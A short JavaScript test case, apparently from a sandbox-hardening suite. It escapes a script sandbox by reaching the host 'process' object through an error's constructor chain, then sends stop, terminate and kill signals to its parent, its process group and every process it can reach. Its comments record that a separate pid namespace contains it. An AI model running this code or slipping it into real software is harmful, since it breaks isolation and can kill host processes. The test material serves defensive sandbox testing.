// tries: sends signals to its parent, its group and to everybody
// stopped by: a pid namespace of its own; the worker is replaced
// realm: process
// needs: fs
exports.f = () => {
  const fs = require('fs');
  let own;
  try {
    fs.statSync('/nowhere/at/all');
  } catch (error) {
    own = error.constructor.constructor('return process')();
  }
  for (const pid of [own.ppid, 0, -1, -own.ppid])
    for (const signal of ['SIGSTOP', 'SIGTERM', 'SIGKILL'])
      try {
        own.kill(pid, signal);
      } catch {
        continue;
      }
  return 'none';
};
